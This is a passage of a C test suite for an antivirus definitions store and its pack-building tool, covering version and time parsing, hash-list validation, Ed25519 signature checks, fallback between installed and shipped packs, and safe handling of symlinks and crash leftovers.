        ck_assert_int_eq(definition_manifest_format(&m, &text, NULL), -EINVAL);
        m.version = (char *) "1";
        ck_assert_int_eq(definition_manifest_format(&m, &text, NULL), 0);
        ck_assert_ptr_nonnull(strstr(text, "\"created\": \"1970-01-01T00:00:00Z\""));
        free(text);
}
END_TEST

/* ---------------------------------------------------------------------------------------- */
/* Versions and times */

START_TEST(test_version_compare) {
        static const struct {
                const char *a, *b;
                int expected;
        } cases[] = {
                { "1.0.0.0", "1.0.0.0", 0 },
                { "1", "1.0.0.0", 0 },
                { "1.2", "1.10", -1 },
                { "1.10", "1.9", 1 },
                { "2", "1.99.99", 1 },
                { "1.0.0.1", "1.0.0", 1 },
                { "0.1.0", "0.0.9", 1 },
                { "4294967295", "4294967294", 1 },
                { "1.2.3.4.5.6.7.8", "1.2.3.4.5.6.7.9", -1 },
                /* Invalid sorts first; two invalid are equal. */
                { "garbage", "0", -1 },
                { "0", "1.02", 1 },
                { "", "x", 0 },
                { NULL, "1", -1 },
        };

        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                int r = definitions_version_compare(cases[i].a, cases[i].b);
                int s = definitions_version_compare(cases[i].b, cases[i].a);

                ck_assert_msg((r > 0) - (r < 0) == cases[i].expected, "'%s' vs '%s': %d",
                              strnull(cases[i].a), cases[i].b, r);
                ck_assert_msg((s > 0) - (s < 0) == -cases[i].expected, "antisymmetry %zu", i);
        }

        ck_assert(definitions_version_is_valid("0"));
        ck_assert(definitions_version_is_valid("101.24092.2"));
        ck_assert(definitions_version_is_valid("1.2.3.4.5.6.7.8"));
        ck_assert(!definitions_version_is_valid("1.2.3.4.5.6.7.8.9"));
        ck_assert(!definitions_version_is_valid("4294967296"));
        ck_assert(!definitions_version_is_valid("01"));
        ck_assert(!definitions_version_is_valid("1."));
        ck_assert(!definitions_version_is_valid(".1"));
        ck_assert(!definitions_version_is_valid("1.-1"));
        ck_assert(!definitions_version_is_valid("1 "));
        ck_assert(!definitions_version_is_valid(""));
        ck_assert(!definitions_version_is_valid(NULL));
}
END_TEST

START_TEST(test_time_parse) {
        static const struct {
                const char *s;
                int error;
                uint64_t usec;
        } cases[] = {
                { "1970-01-01T00:00:00Z", 0, 0 },
                { "2026-11-23T00:00:00Z", 0, UINT64_C(1795392000000000) },
                { "2024-02-29T23:59:59Z", 0, UINT64_C(1709251199000000) },
                { "2026-11-23T00:00:00.5Z", 0, UINT64_C(1795392000500000) },
                { "2026-11-23T00:00:00.123456789Z", 0, UINT64_C(1795392000123456) },
                { "2023-02-29T00:00:00Z", -EINVAL, 0 },
                { "2026-11-23T24:00:00Z", -EINVAL, 0 },
                { "2026-11-23T00:60:00Z", -EINVAL, 0 },
                { "2026-11-23T00:00:60Z", -EINVAL, 0 },
                { "2026-00-23T00:00:00Z", -EINVAL, 0 },
                { "2026-11-00T00:00:00Z", -EINVAL, 0 },
                { "1969-12-31T23:59:59Z", -EINVAL, 0 },
                { "2026-11-23 00:00:00Z", -EINVAL, 0 },
                { "2026-11-23T00:00:00", -EINVAL, 0 },
                { "2026-11-23T00:00:00z", -EINVAL, 0 },
                { "2026-11-23T00:00:00.Z", -EINVAL, 0 },
                { "2026-11-23T00:00:00.1234567890Z", -EINVAL, 0 },
                { "2026-11-23T00:00:00ZZ", -EINVAL, 0 },
                { "26-11-23T00:00:00Z", -EINVAL, 0 },
        };

        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                uint64_t usec = 42;
                int r = definition_time_parse(cases[i].s, &usec);

                ck_assert_msg(r == cases[i].error, "'%s': %d", cases[i].s, r);
                if (r == 0)
                        ck_assert_msg(usec == cases[i].usec, "'%s': %" PRIu64, cases[i].s, usec);
        }
}
END_TEST

/* ---------------------------------------------------------------------------------------- */
/* Hash lists */

typedef struct HashCase {
        const char *text;
        size_t size;            /* 0: strlen(text) */
        int error;
        size_t n;               /* entries on success */
        const char *message;
} HashCase;

static const HashCase hash_cases[] = {
        { "", 0, 0, 0, NULL },
        { "# only a comment\n\n   \n\t\n", 0, 0, 0, NULL },
        { SHA_A "\tVirus:Linux/X\tvirus", 0, 0, 1, NULL },                 /* no final newline */
        { "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
          "\tTrojan:Linux/Mirai.B!MTB\ttrojan\n", 0, 0, 1, NULL },
        { SHA_A "\tVirus:Linux/X\tvirus\n" SHA_1 "\tHackTool:Linux/Y#1@x+y-z\thacktool_2\n",
          0, 0, 2, NULL },
        { SHA_A "\tVirus:Linux/X\n", 0, -EBADMSG, 0,
          "h.tsv:1: expected 3 TAB-separated fields (SHA-256, threat name, threat type), found 2" },
        { SHA_A "\tVirus:Linux/X\tvirus\textra\n", 0, -EBADMSG, 0, "found 4" },
        { SHA_A "\tVirus:Linux/X\tvirus\t\n", 0, -EBADMSG, 0, "found 4" },
        { "\n" SHA_A "\tVirus:Linux/X\tvirus\r\n", 0, -EBADMSG, 0,
          "h.tsv:2: contains a carriage return" },
        { "abc\tVirus:Linux/X\tvirus\n", 0, -EBADMSG, 0, "h.tsv:1: 'abc' is not a SHA-256" },
        { "g" SHA_A "\tVirus:Linux/X\tvirus\n", 0, -EBADMSG, 0, "is not a SHA-256" },
        { " " SHA_A "\tVirus:Linux/X\tvirus\n", 0, -EBADMSG, 0, "is not a SHA-256" },
        { SHA_A "\tEICAR\tvirus\n", 0, -EBADMSG, 0,
          "h.tsv:1: threat name 'EICAR' is not of the form Type:Platform/Family" },
        { SHA_A "\tVirus:Linux/\tvirus\n", 0, -EBADMSG, 0, "is not of the form" },
        { SHA_A "\tVirus:/X\tvirus\n", 0, -EBADMSG, 0, "is not of the form" },
        { SHA_A "\tVirus:Linux/X Y\tvirus\n", 0, -EBADMSG, 0, "is not of the form" },
        { SHA_A "\tVirus:Linux/X\tVirus\n", 0, -EBADMSG, 0,
          "h.tsv:1: threat type 'Virus' is not lowercase letters" },
        { SHA_A "\tVirus:Linux/X\tvirus \n", 0, -EBADMSG, 0, "threat type 'virus ' is not" },
        { SHA_A "\tVirus:Linux/X\t\n", 0, -EBADMSG, 0, "threat type '' is not" },
        { "# x\n" SHA_A "\tVirus:Linux/X\tvirus\n\n" SHA_A "\tVirus:Linux/Y\tvirus\n", 0, -EBADMSG, 0,
          "h.tsv:4: SHA-256 " SHA_A " is already listed on line 2" },
        { "#\n" SHA_A "\tVirus:Linux/X\tvi\0rus\n", 2 + 64 + 17 + 1 + 4, -EBADMSG, 0,
          "h.tsv:2: contains a NUL byte" },
};

START_TEST(test_hash_list_cases) {
        const HashCase *c = &hash_cases[_i];
        _cleanup_free_ char *message = NULL;
        DefinitionHashList l = {};
        size_t size = c->size ?: strlen(c->text);
        int r;

        r = definition_hash_list_parse("h.tsv", c->text, size, &l, &message);
        ck_assert_msg(r == c->error, "case %d: %d (%s)", _i, r, strnull(message));
        if (r == 0) {
                ck_assert_uint_eq(l.n, c->n);
                definition_hash_list_done(&l);
                return;
        }
        ck_assert_uint_eq(l.n, 0);
        ck_assert_msg(message && strstr(message, c->message), "case %d: '%s' lacks '%s'", _i,
                      strnull(message), c->message);
}
END_TEST

START_TEST(test_hash_list_long_line) {
        _cleanup_free_ char *text = NULL, *message = NULL;
        DefinitionHashList l = {};
        size_t n = 2000;

        text = malloc(n + 1);
        ck_assert_ptr_nonnull(text);
        memset(text, '#', n);
        text[n] = '\0';
        ck_assert_int_eq(definition_hash_list_parse("h.tsv", text, n, &l, &message), -EBADMSG);
        ck_assert_ptr_nonnull(strstr(message, "h.tsv:1: line is longer than 1024 bytes"));
}
END_TEST

START_TEST(test_path_rules) {
        ck_assert_ptr_null(definition_path_invalid_reason("rules/eicar.yar"));
        ck_assert_ptr_null(definition_path_invalid_reason("a"));
        ck_assert_ptr_null(definition_path_invalid_reason("A-b_c+d.e/f..g"));
        ck_assert_ptr_null(definition_path_invalid_reason("a/b/c/d/e/f/g/h"));
        ck_assert_ptr_nonnull(definition_path_invalid_reason(".."));
        ck_assert_ptr_nonnull(definition_path_invalid_reason("a/.."));
        ck_assert_ptr_nonnull(definition_path_invalid_reason("/a"));
        ck_assert_ptr_nonnull(definition_path_invalid_reason("a\\b"));
        ck_assert_ptr_nonnull(definition_path_invalid_reason("manifest.json.sig"));
        ck_assert_ptr_null(definition_path_invalid_reason("rules/manifest.json"));
        ck_assert_ptr_nonnull(definition_path_invalid_reason(NULL));
        {
                char longpath[300];

                memset(longpath, 'a', 256);
                longpath[256] = '\0';
                ck_assert_str_eq(definition_path_invalid_reason(longpath),
                                 "is longer than 255 bytes");
        }
        ck_assert(definition_threat_name_is_valid("Virus:DOS/EICAR_Test_File"));
        ck_assert(!definition_threat_name_is_valid("Virus:DOS/EICAR Test"));
        ck_assert(definition_threat_type_is_valid("potentially_unwanted_application"));
        ck_assert(!definition_threat_type_is_valid("_x"));
        ck_assert(!definition_threat_type_is_valid("1x"));
}
END_TEST

/* ---------------------------------------------------------------------------------------- */
/* Keys */

START_TEST(test_public_key_pem) {
        _cleanup_(evp_pkey_freep) EVP_PKEY *k = NULL, *rsa = NULL;
        char path[PATH_MAX];
        FILE *f;

        snprintf(path, sizeof(path), "%s/keys/test-signing-key.pub.pem", DEFINITIONS_SOURCE_DIR);
        ck_assert_int_eq(definitions_public_key_load_pem(path, &k), 0);
        ck_assert_int_eq(EVP_PKEY_get_id(k), EVP_PKEY_ED25519);
        evp_pkey_freep(&k);
        k = NULL;

        /* The private key file is not a public key. */
        snprintf(path, sizeof(path), "%s/keys/test-signing-key.pem", DEFINITIONS_SOURCE_DIR);
        ck_assert_int_eq(definitions_public_key_load_pem(path, &k), -EBADMSG);
        ck_assert_ptr_null(k);

        ck_assert_int_eq(definitions_public_key_load_pem(P("nonexistent.pem"), &k), -ENOENT);
        write_string(P("garbage.pem"), "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n");
        ck_assert_int_eq(definitions_public_key_load_pem(P("garbage.pem"), &k), -EBADMSG);
        ck_assert_int_eq(mkfifo(P("fifo.pem"), 0644), 0);
        ck_assert_int_eq(definitions_public_key_load_pem(P("fifo.pem"), &k), -EBADFD);

        /* An RSA public key is refused as the wrong type. */
        rsa = EVP_PKEY_Q_keygen(NULL, NULL, "RSA", (size_t) 1024);
        ck_assert_ptr_nonnull(rsa);
        f = fopen(P("rsa.pem"), "we");
        ck_assert_ptr_nonnull(f);
        ck_assert_int_eq(PEM_write_PUBKEY(f, rsa), 1);
        ck_assert_int_eq(fclose(f), 0);
        ck_assert_int_eq(definitions_public_key_load_pem(P("rsa.pem"), &k), -EINVAL);

        /* A pack signed with the committed test key verifies with the committed public key. */
        {
                _cleanup_(evp_pkey_freep) EVP_PKEY *priv = NULL, *pub = NULL;

                snprintf(path, sizeof(path), "%s/keys/test-signing-key.pem",
                         DEFINITIONS_SOURCE_DIR);
                f = fopen(path, "re");
                ck_assert_ptr_nonnull(f);
                priv = PEM_read_PrivateKey(f, NULL, NULL, NULL);
                fclose(f);
                ck_assert_ptr_nonnull(priv);
                snprintf(path, sizeof(path), "%s/keys/test-signing-key.pub.pem",
                         DEFINITIONS_SOURCE_DIR);
                ck_assert_int_eq(definitions_public_key_load_pem(path, &pub), 0);
                make_standard_pack(P("pack"), priv, "1.0");
                definition_pack_free(load_ok(P("pack"), pub));
                load_fails(P("pack"), -EKEYREJECTED, "does not verify");
        }
}
END_TEST

/* The daemon recognises the published test key by the SPKI embedded at build time: it must be
 * the key of keys/, and no other key may match it. */
START_TEST(test_public_key_is_test_key) {
        _cleanup_(evp_pkey_freep) EVP_PKEY *test = NULL, *other = NULL;
        char path[PATH_MAX];

        snprintf(path, sizeof(path), "%s/keys/test-signing-key.pub.pem", DEFINITIONS_SOURCE_DIR);
        ck_assert_int_eq(definitions_public_key_load_pem(path, &test), 0);
        ck_assert_int_eq(definitions_public_key_equals_spki(test,
                                                            MDATP_DEFINITIONS_TEST_PUBLIC_KEY_SPKI), 1);

        other = EVP_PKEY_Q_keygen(NULL, NULL, "ED25519");
        ck_assert_ptr_nonnull(other);
        ck_assert_int_eq(definitions_public_key_equals_spki(other,
                                                            MDATP_DEFINITIONS_TEST_PUBLIC_KEY_SPKI), 0);

        ck_assert_int_eq(definitions_public_key_equals_spki(test, ""), -EINVAL);
        ck_assert_int_eq(definitions_public_key_equals_spki(test, "AAAA"), -EINVAL);
        ck_assert_int_eq(definitions_public_key_equals_spki(test, "not base64!"), -EINVAL);
}
END_TEST

/* ---------------------------------------------------------------------------------------- */
/* The store */

static DefinitionsStore *store_open(bool shipped) {
        DefinitionsStoreConfig c = {
                .directory = P("store"),
                .shipped_directory = shipped ? P("shipped") : NULL,
                .public_key = pub_a,
                .engine_version = ENGINE,
        };
        _cleanup_free_ char *message = NULL;
        DefinitionsStore *s = NULL;

        ck_assert_msg(definitions_store_open(&c, &s, &message) == 0, "%s", strnull(message));
        return s;
}

static void install_ok(DefinitionsStore *s, const char *src, const char *version) {
        _cleanup_(definition_pack_freep) DefinitionPack *p = NULL;
        _cleanup_free_ char *message = NULL;
        _cleanup_close_ int fd = open(src, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        int r;

        ck_assert_int_ge(fd, 0);
        r = definitions_store_install(s, fd, &p, &message);
        ck_assert_msg(r == 0, "install: %d %s", r, strnull(message));
        ck_assert_str_eq(p->version, version);
}

/* Loads the best pack, expecting version from source, and n_errors reasons. */
static void best_is(DefinitionsStore *s, const char *version, DefinitionsSource source,
                    size_t n_errors, const char *needle) {
        _cleanup_(definition_pack_freep) DefinitionPack *p = NULL;
        _cleanup_strv_free_ char **errors = NULL;
        _cleanup_free_ char *joined = NULL;
        DefinitionsSource src = _DEFINITIONS_SOURCE_INVALID;
        int r;

        r = definitions_store_load_best(s, &p, &src, &errors);
        joined = strv_join(errors, " | ");
        if (!version) {
                ck_assert_int_eq(r, -ENOENT);
                ck_assert_ptr_null(p);
        } else {
                ck_assert_msg(r == 0, "load_best: %d (%s)", r, strnull(joined));
                ck_assert_str_eq(p->version, version);
                ck_assert_int_eq(src, source);
        }
        ck_assert_msg(strv_length(errors) == n_errors, "errors: %s", strnull(joined));
        if (needle)
                ck_assert_msg(joined && strstr(joined, needle), "'%s' lacks '%s'",
                              strnull(joined), needle);
}

static int compare_strings(const void *a, const void *b) {
        return strcmp(*(char * const *) a, *(char * const *) b);
}

/* The entries of the store directory, sorted, joined with ",". */
static char *store_listing(void) {
        _cleanup_strv_free_ char **names = NULL;
        struct dirent *de;
        DIR *d = opendir(P("store"));
        char *s;

        ck_assert_ptr_nonnull(d);
        while ((de = readdir(d)))
                if (!streq(de->d_name, ".") && !streq(de->d_name, ".."))
                        ck_assert_int_eq(strv_extend(&names, de->d_name), 0);
        closedir(d);
        if (names)
                qsort(names, strv_length(names), sizeof(char *), compare_strings);
        s = names ? strv_join(names, ",") : strdup("");
        ck_assert_ptr_nonnull(s);
        return s;
}

START_TEST(test_store_install_and_load_best) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;
        _cleanup_free_ char *listing = NULL;

        make_standard_pack(P("shipped"), key_a, "1.0");
        make_standard_pack(P("v2"), key_a, "2.0");
        make_standard_pack(P("v3"), key_a, "3.0");
        make_standard_pack(P("v4"), key_a, "4.0");

        s = store_open(true);
        best_is(s, "1.0", DEFINITIONS_SOURCE_SHIPPED, 0, NULL);

        install_ok(s, P("v2"), "2.0");
        best_is(s, "2.0", DEFINITIONS_SOURCE_CURRENT, 0, NULL);
        listing = store_listing();
        ck_assert_str_eq(listing, "current");
        listing = mfree(listing);

        install_ok(s, P("v3"), "3.0");
        best_is(s, "3.0", DEFINITIONS_SOURCE_CURRENT, 0, NULL);
        listing = store_listing();
        ck_assert_str_eq(listing, "current,previous");
        listing = mfree(listing);

        install_ok(s, P("v4"), "4.0");
        best_is(s, "4.0", DEFINITIONS_SOURCE_CURRENT, 0, NULL);
        listing = store_listing();
        ck_assert_str_eq(listing, "current,previous");

        /* previous is 3.0 now: make current unloadable and see it. */
        ck_assert_int_eq(unlink(P("store/current/rules/a.yar")), 0);
        best_is(s, "3.0", DEFINITIONS_SOURCE_PREVIOUS, 1,
                "current: rules/a.yar: listed in the manifest but missing");

        /* The copy is exactly what was verified, extra files of the source are not copied. */
        make_standard_pack(P("v5"), key_a, "5.0");
        write_string(P("v5/rules/unlisted.yar"), "rule u { condition: true }\n");
        install_ok(s, P("v5"), "5.0");
        ck_assert_int_eq(access(P("store/current/rules/unlisted.yar"), F_OK), -1);
        ck_assert_int_eq(access(P("store/current/manifest.json.sig"), F_OK), 0);
}
END_TEST

START_TEST(test_store_fallback_chain) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;
        _cleanup_free_ char *sig = NULL;
        size_t size;

        make_standard_pack(P("shipped"), key_a, "1.0");
        make_standard_pack(P("v2"), key_a, "2.0");
        make_standard_pack(P("v3"), key_a, "3.0");
        s = store_open(true);
        install_ok(s, P("v2"), "2.0");
        install_ok(s, P("v3"), "3.0");
        best_is(s, "3.0", DEFINITIONS_SOURCE_CURRENT, 0, NULL);

        /* A corrupted current: previous applies, the reason is collected. */
        write_string(P("store/current/rules/a.yar"), RULE_B "//");
        best_is(s, "2.0", DEFINITIONS_SOURCE_PREVIOUS, 1, "current: rules/a.yar: size does not "
                "match");

        /* And a bad signature on previous: the shipped pack, two reasons. */
        sig = read_whole(P("store/previous/manifest.json.sig"), &size);
        sig[0] ^= 0x80;
        write_file(P("store/previous/manifest.json.sig"), sig, size);
        best_is(s, "1.0", DEFINITIONS_SOURCE_SHIPPED, 2,
                "previous: manifest.json.sig: signature does not verify with the installed key");

        /* Nothing left: -ENOENT with three reasons. */
        ck_assert_int_eq(unlink(P("shipped/hashes/a.tsv")), 0);
        best_is(s, NULL, 0, 3, "shipped: hashes/a.tsv: listed in the manifest but missing");
}
END_TEST

START_TEST(test_store_newest_wins) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;

        /* The package was upgraded with a shipped pack newer than what was downloaded. */
        make_standard_pack(P("shipped"), key_a, "5.0");
        make_standard_pack(P("v2"), key_a, "2.0");
        s = store_open(true);
        install_ok(s, P("v2"), "2.0");
        best_is(s, "5.0", DEFINITIONS_SOURCE_SHIPPED, 0, NULL);

        /* A tie goes to current. */
        definitions_store_free(TAKE_PTR(s));
        ck_assert_int_eq(definition_rm_rf_at(AT_FDCWD, P("shipped")), 0);
        make_standard_pack(P("shipped"), key_a, "2.0.0");
        s = store_open(true);
        best_is(s, "2.0", DEFINITIONS_SOURCE_CURRENT, 0, NULL);

        /* No shipped pack configured and none installed. */
        ck_assert_int_eq(definitions_store_restore_shipped(s), 0);
        definitions_store_free(TAKE_PTR(s));
        s = store_open(false);
        best_is(s, NULL, 0, 0, NULL);
}
END_TEST

START_TEST(test_store_symlinked_slot_refused) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;

        make_standard_pack(P("shipped"), key_a, "1.0");
        make_standard_pack(P("evil"), key_a, "9.0");
        s = store_open(true);
        ck_assert_int_eq(symlink(P("evil"), P("store/current")), 0);
        best_is(s, "1.0", DEFINITIONS_SOURCE_SHIPPED, 1,
                "current: not a directory (symbolic links are refused)");
}
END_TEST

START_TEST(test_store_shipped_missing) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;

        /* A broken package (no shipped pack) is a reason to report, unlike an empty store. */
        s = store_open(true);
        best_is(s, NULL, 0, 1, "shipped: '");
        best_is(s, NULL, 0, 1, "': No such file or directory");
        make_standard_pack(P("v2"), key_a, "2.0");
        install_ok(s, P("v2"), "2.0");
        best_is(s, "2.0", DEFINITIONS_SOURCE_CURRENT, 1, "shipped: ");
}
END_TEST

START_TEST(test_store_crash_leftovers) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;
        _cleanup_free_ char *listing = NULL;

        make_standard_pack(P("shipped"), key_a, "1.0");
        make_standard_pack(P("v2"), key_a, "2.0");
        s = store_open(true);
        install_ok(s, P("v2"), "2.0");
        definitions_store_free(TAKE_PTR(s));

        /* A crash during the copy: a half-written newer pack in a work directory... */
        make_standard_pack(P("store/.install-abc123"), key_a, "9.0");
        ck_assert_int_eq(unlink(P("store/.install-abc123/hashes/a.tsv")), 0);
        /* ...a complete one too (crash between the two renames), and a trash directory. */
        make_standard_pack(P("store/.install-def456"), key_a, "8.0");
        mkdir_p(P("store/.trash-xyz/previous/rules/deep/er"));
        write_string(P("store/.trash-xyz/previous/rules/deep/er/file"), "x");
        ck_assert_int_eq(symlink("/etc", P("store/.trash-xyz/link")), 0);
        /* Something that is not ours stays. */
        write_string(P("store/unrelated"), "x");

        s = store_open(true);
        listing = store_listing();
        ck_assert_str_eq(listing, "current,unrelated");
        ck_assert_int_eq(access("/etc/passwd", F_OK), 0);      /* the symlink was not followed */
        best_is(s, "2.0", DEFINITIONS_SOURCE_CURRENT, 0, NULL);
}
END_TEST

START_TEST(test_store_crash_between_renames_without_exchange) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;

        /* Fallback scheme, crash after "current -> previous" and before ".install -> current":
         * no current, previous is the old pack: it loads as before the install. */
        make_standard_pack(P("shipped"), key_a, "1.0");
        make_standard_pack(P("store/previous"), key_a, "2.0");
        make_standard_pack(P("store/.install-q1w2e3"), key_a, "3.0");
        s = store_open(true);
        best_is(s, "2.0", DEFINITIONS_SOURCE_PREVIOUS, 0, NULL);
        ck_assert_int_eq(access(P("store/.install-q1w2e3"), F_OK), -1);
}
END_TEST

START_TEST(test_store_install_without_exchange) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;
        _cleanup_free_ char *listing = NULL;

        make_standard_pack(P("shipped"), key_a, "1.0");
        make_standard_pack(P("v2"), key_a, "2.0");
        make_standard_pack(P("v3"), key_a, "3.0");
        make_standard_pack(P("v4"), key_a, "4.0");
        definitions_store_test_no_exchange = true;
        s = store_open(true);
        install_ok(s, P("v2"), "2.0");
        install_ok(s, P("v3"), "3.0");
        install_ok(s, P("v4"), "4.0");
        definitions_store_test_no_exchange = false;
        listing = store_listing();
        ck_assert_str_eq(listing, "current,previous");
        best_is(s, "4.0", DEFINITIONS_SOURCE_CURRENT, 0, NULL);
        ck_assert_int_eq(definition_rm_rf_at(AT_FDCWD, P("store/current")), 0);
        best_is(s, "3.0", DEFINITIONS_SOURCE_PREVIOUS, 0, NULL);
}
END_TEST

START_TEST(test_store_install_refuses_bad_pack) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;
        _cleanup_free_ char *message = NULL, *listing = NULL;
        _cleanup_close_ int fd = -EBADF;

        make_standard_pack(P("shipped"), key_a, "1.0");
        make_standard_pack(P("v2"), key_a, "2.0");
        make_standard_pack(P("bad"), key_b, "9.0");     /* signed by another key */
        s = store_open(true);
        install_ok(s, P("v2"), "2.0");

        fd = open(P("bad"), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        ck_assert_int_ge(fd, 0);
        ck_assert_int_eq(definitions_store_install(s, fd, NULL, &message), -EKEYREJECTED);
        ck_assert_str_eq(message, "manifest.json.sig: signature does not verify with the "
                         "installed key");
        listing = store_listing();
        ck_assert_str_eq(listing, "current");
        best_is(s, "2.0", DEFINITIONS_SOURCE_CURRENT, 0, NULL);
}
END_TEST

START_TEST(test_store_restore_shipped) {
        _cleanup_(definitions_store_freep) DefinitionsStore *s = NULL;
        _cleanup_free_ char *listing = NULL;

        make_standard_pack(P("shipped"), key_a, "1.0");
        make_standard_pack(P("v2"), key_a, "2.0");
        make_standard_pack(P("v3"), key_a, "3.0");
        s = store_open(true);
        install_ok(s, P("v2"), "2.0");
        install_ok(s, P("v3"), "3.0");
        ck_assert_int_eq(definitions_store_restore_shipped(s), 0);
        listing = store_listing();
        ck_assert_str_eq(listing, "");
        best_is(s, "1.0", DEFINITIONS_SOURCE_SHIPPED, 0, NULL);

        /* Idempotent, and installing works again afterwards. */
        ck_assert_int_eq(definitions_store_restore_shipped(s), 0);
        install_ok(s, P("v2"), "2.0");
        best_is(s, "2.0", DEFINITIONS_SOURCE_CURRENT, 0, NULL);
        ck_assert_str_eq(definitions_source_to_string(DEFINITIONS_SOURCE_SHIPPED), "shipped");
        ck_assert_ptr_null(definitions_source_to_string(_DEFINITIONS_SOURCE_MAX));
}
END_TEST

/* ---------------------------------------------------------------------------------------- */
/* mdatp-pack and the default pack */

/* Runs mdatp-pack with args (NULL-terminated), stderr to a file; returns the exit status. */
static int run_tool(char **stderr_text, ...) {
        char *argv[32] = { (char *) MDATP_PACK_PATH };
        const char *err = P("tool-stderr");
        size_t n = 1, size;
        va_list ap;
        pid_t pid;
        int status;

        va_start(ap, stderr_text);
        while ((argv[n] = va_arg(ap, char *)))
                ck_assert_uint_lt(++n, ELEMENTSOF(argv));
        va_end(ap);

        pid = fork();
        ck_assert_int_ge(pid, 0);
        if (pid == 0) {
                int fd = open(err, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
                int null = open("/dev/null", O_WRONLY | O_CLOEXEC);

                if (fd < 0 || null < 0 || dup2(fd, 2) < 0 || dup2(null, 1) < 0)
                        _exit(127);
                execv(argv[0], argv);
                _exit(127);
        }
        ck_assert_int_eq(waitpid(pid, &status, 0), pid);
        ck_assert(WIFEXITED(status));
        if (stderr_text)
                *stderr_text = read_whole(err, &size);
        return WEXITSTATUS(status);
}

static EVP_PKEY *committed_public_key(void) {
        char path[PATH_MAX];
        EVP_PKEY *k = NULL;

        snprintf(path, sizeof(path), "%s/keys/test-signing-key.pub.pem", DEFINITIONS_SOURCE_DIR);
        ck_assert_int_eq(definitions_public_key_load_pem(path, &k), 0);
        return k;
}

/* Checks the content of a default pack. */
static void check_default_pack(const DefinitionPack *p) {
        char marker[32];
        uint8_t sha[32];
        bool found = false;

        sample_join(marker, sizeof(marker), "MDATP-HASH-", "TEST-FILE\n", NULL);

        ck_assert_str_eq(p->version, "1.0.0.0");
        ck_assert_uint_eq(p->n_rules, 5);
        ck_assert_str_eq(p->rules[0].name, "rules/eicar.yar");
        definition_sha256(marker, strlen(marker), sha);
        for (size_t i = 0; i < p->n_hashes; i++)
                if (memcmp(p->hashes[i].sha256, sha, 32) == 0) {
                        ck_assert_str_eq(p->hashes[i].name, "Virus:Linux/MdatpHashTest");
                        ck_assert_str_eq(p->hashes[i].type, "virus");
                        found = true;
                }
        ck_assert(found);
}

START_TEST(test_tool_builds_default_pack) {
        _cleanup_(definition_pack_freep) DefinitionPack *p = NULL;
        _cleanup_(evp_pkey_freep) EVP_PKEY *pub = committed_public_key();
        _cleanup_free_ char *err = NULL, *m1 = NULL, *m2 = NULL;
        char key[PATH_MAX], pubkey[PATH_MAX], src[PATH_MAX];
        size_t s1, s2;

        snprintf(key, sizeof(key), "%s/keys/test-signing-key.pem", DEFINITIONS_SOURCE_DIR);
        snprintf(pubkey, sizeof(pubkey), "%s/keys/test-signing-key.pub.pem",
                 DEFINITIONS_SOURCE_DIR);
        snprintf(src, sizeof(src), "%s/default", DEFINITIONS_SOURCE_DIR);

        setenv("SOURCE_DATE_EPOCH", "1795392000", 1);
        ck_assert_int_eq(run_tool(&err, "build", "--key", key, "--version", "1.0.0.0", "--out",
                                  P("out"), "--stamp", P("stamp"), src, NULL), 0);
        ck_assert_str_eq(err, "");
        ck_assert_int_eq(access(P("stamp"), F_OK), 0);
        p = load_ok(P("out"), pub);
        check_default_pack(p);
        ck_assert_uint_eq(p->created_usec, UINT64_C(1795392000000000));

        /* Reproducible: the same manifest (and signature: Ed25519 is deterministic). */
        m1 = read_whole(P("out/manifest.json.sig"), &s1);
        ck_assert_int_eq(run_tool(NULL, "build", "--key", key, "--version", "1.0.0.0", "--out",
                                  P("out"), src, NULL), 0);
        m2 = read_whole(P("out/manifest.json.sig"), &s2);
        ck_assert_uint_eq(s1, s2);
        ck_assert_mem_eq(m1, m2, s1);
        unsetenv("SOURCE_DATE_EPOCH");

        /* verify: exit 0 with the right key, 1 with another. */
        ck_assert_int_eq(run_tool(NULL, "verify", "--key", pubkey, P("out"), NULL), 0);
        {
                FILE *f = fopen(P("other.pub.pem"), "we");

                ck_assert_ptr_nonnull(f);
                ck_assert_int_eq(PEM_write_PUBKEY(f, pub_b), 1);
                ck_assert_int_eq(fclose(f), 0);
        }
        err = mfree(err);
        ck_assert_int_eq(run_tool(&err, "verify", "--key", P("other.pub.pem"), P("out"), NULL), 1);
        ck_assert_ptr_nonnull(strstr(err, "signature does not verify with the installed key"));
}
END_TEST

START_TEST(test_tool_errors) {
        _cleanup_free_ char *err = NULL;
        char key[PATH_MAX];

        snprintf(key, sizeof(key), "%s/keys/test-signing-key.pem", DEFINITIONS_SOURCE_DIR);

        /* Usage errors: 2. */
        ck_assert_int_eq(run_tool(NULL, NULL), 2);
        ck_assert_int_eq(run_tool(NULL, "frobnicate", NULL), 2);
        ck_assert_int_eq(run_tool(NULL, "build", "--key", key, NULL), 2);
        ck_assert_int_eq(run_tool(&err, "build", "--key", key, "--version", "1.x", "--out",
                                  P("out"), P("src"), NULL), 2);
        ck_assert_ptr_nonnull(strstr(err, "'1.x' is not a version"));
        ck_assert_int_eq(run_tool(NULL, "verify", P("x"), NULL), 2);
        ck_assert_int_eq(run_tool(NULL, "--help", NULL), 0);

        /* A bad hash list fails the build with its line, and leaves no output. */
        write_string(P("src/rules/a.yar"), RULE_A);
        write_string(P("src/hashes/bad.tsv"), "# ok\n" SHA_A "\tnot-a-name\tvirus\n");
        err = mfree(err);
        ck_assert_int_eq(run_tool(&err, "build", "--key", key, "--version", "1", "--out",
                                  P("out"), P("src"), NULL), 1);
        ck_assert_ptr_nonnull(strstr(err, "hashes/bad.tsv:2: threat name 'not-a-name'"));
